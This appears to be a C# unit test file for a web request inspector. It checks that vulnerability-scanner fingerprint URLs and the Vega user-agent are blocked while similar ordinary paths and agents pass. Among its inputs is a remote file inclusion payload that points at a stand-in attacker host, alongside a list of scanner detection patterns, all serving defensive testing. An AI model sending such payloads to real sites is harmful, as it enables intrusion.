using Analytics.Inspection;
using Microsoft.AspNetCore.Http;

namespace Analytics.Sidecar.Tests.Inspection;

/// <summary>
/// Issue 13's eighth pass, scanners (913): the fingerprint files scanners request (CRS
/// scanners-urls.data, Apache-2.0) and the Vega User-Agent, with ordinary targets and agents.
/// </summary>
public sealed class CrsGapScannerTests
{
    [Theory]
    [InlineData("/nessustest")]
    [InlineData("/shop/NESSUS_IS_PROBING_YOU_/x")]
    [InlineData("/AppScan_fingerprint/MAC_ADDRESS_0A1B2C.html?Z9")]
    [InlineData("/netsparker-12ab34cd")]
    [InlineData("/arachni-3f2e")]
    [InlineData("/w00tw00t.at.ISC.SANS.DFind:)")]
    [InlineData("/index.php?page=http://evil.example/rfiinc.txt")]
    public void Scanner_fingerprint_url_blocks(string target)
    {
        var verdict = WithTarget(target, "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");
        Assert.True(verdict.Rules.Contains("scanner-url") && verdict.Blocks(), $"{target}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
    }

    [Theory]
    [InlineData("/api/v1/scans/nessus/results")]
    [InlineData("/words/antidisestablishmentarianism")]
    [InlineData("/products/arachnid-plush")]
    [InlineData("/docs/appscan-integration")]
    [InlineData("/search?q=netsparker+review")]
    public void Ordinary_target_is_not_a_scanner(string target) =>
        Assert.DoesNotContain("scanner-url", WithTarget(target, "Mozilla/5.0").Rules);

    [Theory]
    [InlineData("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; .NET CLR 3.5.30729; Vega/1.0)")]
    [InlineData("Vega/1.2")]
    public void Vega_user_agent_blocks(string ua) => Assert.Contains("scanner-user-agent", WithTarget("/", ua).Rules);

    [Theory]
    [InlineData("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36")]
    [InlineData("Mozilla/5.0 (Linux; Android 13; Vega Tab 10) AppleWebKit/537.36")]
    [InlineData("okhttp/4.12.0")]
    public void Ordinary_user_agent_is_not_a_scanner(string ua) => Assert.DoesNotContain("scanner-user-agent", WithTarget("/", ua).Rules);

    private static InspectionVerdict WithTarget(string target, string userAgent)
    {
        var q = target.IndexOf('?', StringComparison.Ordinal);
        var path = q < 0 ? target : target[..q];
        var query = q < 0 ? null : target[(q + 1)..];
        return Inspect.Run(new InspectionInput("GET", path, query, new HeaderDictionary { ["User-Agent"] = userAgent, ["Accept"] = "*/*", ["Host"] = "api.example" },
            ReadOnlyMemory<byte>.Empty, null, false, "HTTP/1.1", target));
    }
}
